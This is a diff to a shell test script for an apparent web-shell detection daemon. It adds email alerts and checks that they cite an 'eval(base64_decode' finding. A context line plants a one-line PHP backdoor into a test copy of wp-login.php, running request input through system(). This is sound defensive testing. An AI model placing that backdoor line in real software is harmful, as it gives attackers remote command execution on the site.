@@ -30,13 +30,13 @@ mkdir -p "$D/rules"
 cp "$WSID_TOP"/rules/*.yar "$D/rules/"
 
 start_receivers "$D" hook
-HP=$(cat "$D/hook.port")
+HP=$(cat "$D/hook.port") SP=$(cat "$D/smtp.port")
 daemon_config "$D" \
 	"classify:" "  update_window: 1s" \
 	"analysis:" "  rules: ['$D/rules/*.yar']" "  max_size: 2m" "  severity: {write-of-input: info}" \
 	"customers:" \
-	"  alice:" "    webhook: {url: 'http://127.0.0.1:$HP/hook', secret: s3cret}" \
-	"notify:" "  digest_interval: 60s"
+	"  alice:" "    webhook: {url: 'http://127.0.0.1:$HP/hook', secret: s3cret}" "    email: alice@example.com" \
+	"notify:" "  digest_interval: 60s" "  smtp: {url: 'smtp://127.0.0.1:$SP', from: wsid@node.example}"
 daemon_start "$D" || { fail "daemon start"; t_done; exit 1; }
 sqlq() { sqlite3 "$D/db/wsid.db" "$@"; }
 st() { "$WSIDCTL" --socket "$D/ctl.sock" status --json | $PY -c "import json,sys; print(json.load(sys.stdin)['$1'])"; }
@@ -64,6 +64,9 @@ check_eq "shell in an unknown plugin: webhook at once, malicious, critical" "mal
 check "shell: the reason names the finding and its line" bash -c "$(declare -f hooks); PY=$PY D=$D hooks hook '[e for e in evs if e[\"path\"].endswith(\"cache-helper.php\")][0][\"reason\"]' | grep -q 'exec-of-input (high, line 3'"
 check_eq "shell: the webhook's detail lists the findings" "exec-of-input 3" \
 	"$(hooks hook '(lambda f: "%s %s" % (f["class"], f["line"]))([e for e in evs if e["path"].endswith("cache-helper.php")][0]["detail"]["analysis"]["findings"][0])')"
+
+waitfor 10 bash -c "grep -l 'cache-helper.php' '$D/mail/'*.eml >/dev/null 2>&1"
+check "shell: the customer's mail names the finding, its line and excerpt" bash -c "grep -h -A3 'cache-helper.php' '$D/mail/'*.eml | grep -q 'exec-of-input (high, line 3: .*eval(base64_decode'"
 
 # -- a backdoor line added to wp-login.php: tampered becomes malicious
 sed -i '1a if (isset($_REQUEST["wp_c"])) { system($_REQUEST["wp_c"]); }' "$(ws alice)/blog/wp-login.php"
